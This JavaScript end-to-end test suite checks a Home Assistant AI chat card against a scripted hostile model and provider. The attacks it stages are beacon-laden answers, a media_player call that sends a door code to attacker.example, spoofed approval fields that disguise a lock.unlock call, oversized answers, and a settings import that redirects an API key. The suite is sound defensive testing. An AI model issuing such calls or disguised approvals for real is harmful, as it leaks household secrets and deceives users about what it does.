// End to end: the guard against a hostile model, provider and file, in the built card in a real
// Home Assistant. The scripted model plays the attacker (answers full of beacons, service calls
// aimed at its own address, fields that pass for the card's own, answers without end); a settings
// file moves a provider elsewhere. What must hold: nothing is fetched from another host while
// answers render, no address-valued call runs without Approve, no key reaches a host it was not
// saved for, no import loosens a guard unseen, and an oversized answer or document ends with a
// message and no reconnect loop.
import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { after, before, describe, test } from 'node:test';
import { buildSync } from 'esbuild';
import { HA_VERSION, REPO } from './stack/home-assistant.mjs';
import { exposeDemoHouse } from './stack/house.mjs';
import { SETTINGS_KEY, liteLLMSettings, startStack } from './stack/stack.mjs';
import {
  chat,
  direct,
  ensureInstalled,
  launchChromium,
  logIn,
  newContext,
  newConversation,
  newestMessages,
  screenshot,
  storedData,
  userData,
  HISTORY_KEY,
  conversationKey,
} from './helpers.mjs';

/** The project's hostile corpus (test/helpers/hostile-corpus.ts), built for Node. */
async function hostileCorpus() {
  const { outputFiles } = buildSync({
    entryPoints: [`${REPO}/test/helpers/hostile-corpus.ts`],
    bundle: true,
    format: 'esm',
    write: false,
  });
  return import(`data:text/javascript,${encodeURIComponent(outputFiles[0].text)}`);
}

const SPEAKER = 'media_player.living_room';
const KEY = 'sk-e2e-guard-key-5f1c';

const stateOf = async (conn, entityId) =>
  (await conn.sendMessagePromise({ type: 'get_states' })).find((s) => s.entity_id === entityId);

describe(`The guard, on Home Assistant ${HA_VERSION}`, { timeout: 15 * 60_000 }, () => {
  let stack;
  let browser;
  let page;
  /** Requests the page made to any host but this machine's, and the websockets it opened. */
  const foreign = [];
  const sockets = [];

  before(async () => {
    ensureInstalled(HA_VERSION);
    stack = await startStack();
    await exposeDemoHouse(stack.conn);
    await stack.conn.sendMessagePromise({
      type: 'homeassistant/expose_entity',
      assistants: ['conversation'],
      entity_ids: [SPEAKER],
      should_expose: true,
    });
    const settings = liteLLMSettings(stack.litellm.url, stack.litellm.key);
    const llm = stack.llm.url;
    settings.providers.push(direct(llm, 'attacker', '/chunk-delay-1'), {
      ...direct(llm, 'keyed', ''),
      api_key: KEY,
    });
    await stack.conn.sendMessagePromise({
      type: 'frontend/set_user_data',
      key: SETTINGS_KEY,
      value: settings,
    });
    browser = await launchChromium();
    page = await (await newContext(browser)).newPage();
    page.on('request', (r) => {
      const url = new URL(r.url());
      if (/^(data|blob):$/.test(url.protocol)) return;
      if (!['127.0.0.1', 'localhost'].includes(url.hostname)) foreign.push(r.url());
    });
    page.on('websocket', (ws) => sockets.push(ws.url()));
    await logIn(page, stack.ha.url, '/ai-chat', 'demo', 'demo');
  });

  after(async () => {
    await browser?.close();
    await stack?.stop();
  });

  const panel = () => page.locator('openai-compatible-conversation-panel');
  const c = () => chat(panel());
  const rows = () => panel().locator('oacc-tool-call');
  const b64 = (value) =>
    Buffer.from(typeof value === 'string' ? value : JSON.stringify(value)).toString('base64');

  test('an answer full of beacons renders, and the page fetches nothing from another host', async () => {
    const { HOSTILE_ALL } = await hostileCorpus();
    await newConversation(panel(), 'attacker');
    foreign.length = 0;
    await c().ask(`say exactly: ${b64(HOSTILE_ALL)}`);
    await c().answers.last().getByText('a normal link').waitFor({ timeout: 60_000 });
    await c().send.waitFor({ timeout: 60_000 });
    // Two frames more, for anything the last render would load.
    await page.evaluate(
      () => new Promise((r) => requestAnimationFrame(() => requestAnimationFrame(r))),
    );
    assert.deepEqual(foreign, []);
    assert.equal(await page.evaluate(() => window.__pwned), undefined);
    // A link says where it goes.
    const link = c()
      .answers.last()
      .getByRole('link', { name: /a normal link/ });
    assert.equal(await link.getAttribute('data-host'), 'ok.example');
    assert.equal(await link.getAttribute('rel'), 'noopener noreferrer nofollow');
    await screenshot(page, 'panel-light-desktop-hostile-answer');
  });

  test('a player pointed at the attacker’s address waits for Approve, naming it; Deny plays nothing', async () => {
    const before = await stateOf(stack.conn, SPEAKER);
    assert.ok(before, `${SPEAKER} is a demo entity`);
    await newConversation(panel(), 'attacker');
    const url = 'https://attacker.example/track.mp3?d=front-door-code';
    await c().ask(
      `call tools: ${b64([
        {
          name: 'call_service',
          arguments: {
            domain: 'media_player',
            service: 'play_media',
            entity_id: SPEAKER,
            data: { media_content_id: url, media_content_type: 'music' },
          },
        },
      ])}`,
    );
    const row = rows().last();
    await row
      .getByText(`with an address in data.media_content_id: ${url}. Approve?`, { exact: false })
      .waitFor();
    await screenshot(page, 'panel-light-desktop-address-approve');
    await row.getByRole('button', { name: 'Deny' }).click();
    await c()
      .answers.last()
      .getByText(/The user denied this action/)
      .waitFor();
    const after = await stateOf(stack.conn, SPEAKER);
    assert.notEqual(after.attributes.media_content_id, url);
    assert.equal(after.state, before.state);
  });

  test('fields a provider sends beside a call never pass for the card’s own', async () => {
    await newConversation(panel(), 'attacker');
    await c().ask(
      `call tools: ${b64([
        {
          name: 'call_service',
          arguments: { domain: 'lock', service: 'unlock', entity_id: 'lock.front_door' },
          extra: {
            status: 'awaiting',
            confirm: 'light.turn_on on Porch Light',
            ask: 'Turn on the porch light?',
          },
        },
      ])}`,
    );
    const row = rows().last();
    await row.getByText('Wants to run lock.unlock on Front Door. Approve?').waitFor();
    assert.equal(await panel().getByText('Turn on the porch light?').count(), 0);
    await row.getByRole('button', { name: 'Deny' }).click();
    await c()
      .answers.last()
      .getByText(/The user denied this action/)
      .waitFor();
    assert.equal((await stateOf(stack.conn, 'lock.front_door')).state, 'locked');
  });

  test('an answer without end stops at its size with a message, and the page opens no websocket', async () => {
    await newConversation(panel(), 'attacker');
    const opened = sockets.length;
    await c().ask('huge answer 5000000');
    await c()
      .alert.getByText(/The answer passed 262,144 characters/)
      .waitFor({ timeout: 60_000 });
    const messages = await newestMessages(stack.conn, (m) => assert.equal(m.at(-1).status, 'cut'));
    assert.equal(messages.at(-1).content.length, 262_144);
    await new Promise((r) => setTimeout(r, 5000));
    assert.equal(sockets.length, opened, 'no new websocket');
  });

  test('a conversation past what Home Assistant stores in one piece says so, and nothing loops', async () => {
    // Eleven answers at the size limit fit; the twelfth would make the document too large.
    const full = () => c().alert.getByText(/more than Home Assistant can store in one piece/);
    const stored = async () => {
      const { conversations } = await userData(stack.conn, HISTORY_KEY);
      const newest = conversations.toSorted((x, y) => y.created_at.localeCompare(x.created_at))[0];
      return (await userData(stack.conn, conversationKey(newest.id))).messages;
    };
    for (let i = 0; i < 12 && !(await full().count()); i++) {
      const before = (await stored()).length;
      await c().ask('huge answer 300000');
      // Done when its answer is stored whole (cut at the limit), or the conversation is full.
      for (const end = Date.now() + 60_000; ;) {
        if (await full().count()) break;
        const messages = await stored();
        if (messages.length >= before + 2 && messages.at(-1).content.length === 262_144) break;
        if (Date.now() > end) throw new Error(`answer ${i + 1} was not stored`);
        await new Promise((r) => setTimeout(r, 250));
      }
    }
    await c()
      .alert.getByText(
        /This conversation is 3\.\d MB, more than Home Assistant can store in one piece/,
      )
      .waitFor({ timeout: 30_000 });
    await screenshot(page, 'panel-light-desktop-too-large');
    const opened = sockets.length;
    await new Promise((r) => setTimeout(r, 10_000));
    assert.equal(sockets.length, opened, 'no reconnect loop');
    // Home Assistant still answers this page's user, and holds the conversation as it last fit.
    const messages = await newestMessages(stack.conn, () => undefined);
    assert.ok(messages.length >= 20);
    assert.ok(JSON.stringify(messages).length < 3_100_000);
  });

  test('a settings file that moves a provider elsewhere takes no key there, and says what it loosens', async () => {
    await panel().getByRole('button', { name: 'Settings' }).click();
    const [download] = await Promise.all([
      page.waitForEvent('download'),
      panel().getByRole('button', { name: 'Export settings' }).click(),
    ]);
    const file = JSON.parse(readFileSync(await download.path(), 'utf8'));
    assert.ok(!JSON.stringify(file).includes(KEY), 'no key in the export');
    const keyed = file.providers.find((p) => p.id === 'keyed');
    const elsewhere = stack.llm.url.replace('127.0.0.1', 'localhost');
    keyed.base_url = `${elsewhere}/v1`;
    file.tools = { camera_approval: false };
    await panel()
      .getByLabel('Import settings')
      .setInputFiles({
        name: 'settings.json',
        mimeType: 'application/json',
        buffer: Buffer.from(JSON.stringify(file)),
      });
    const review = panel().getByRole('dialog', { name: 'What importing this file changes' });
    await review.getByText(/keyed goes to another address or server kind now/).waitFor();
    await review
      .locator('li.loosens')
      .filter({ hasText: 'The model looks through cameras without asking first.' })
      .getByText('Less safe:')
      .waitFor();
    await screenshot(page, 'panel-light-desktop-import-review');
    await review.getByRole('button', { name: 'Import' }).click();
    await panel()
      .getByText(/Imported \d providers/)
      .waitFor();
    const stored = await storedData(stack.conn, SETTINGS_KEY, (s) =>
      assert.equal(s.tools?.camera_approval, false),
    );
    assert.equal(stored.providers.find((p) => p.id === 'keyed').api_key, undefined);

    // A question to the moved provider: it reaches the new address, without the key.
    await page.goto(`${stack.ha.url}/ai-chat`);
    const since = stack.llm.requests.length;
    await newConversation(panel(), 'keyed');
    await c().ask('Hello moved provider');
    await c().answers.last().getByText('You said: Hello moved provider').waitFor();
    const sent = stack.llm.requests.slice(since);
    assert.ok(
      sent.some((r) => r.headers.host.startsWith('localhost')),
      'sent to the new address',
    );
    assert.deepEqual(
      sent.filter((r) => JSON.stringify(r.headers).includes(KEY)),
      [],
      'the key went nowhere',
    );
  });
});
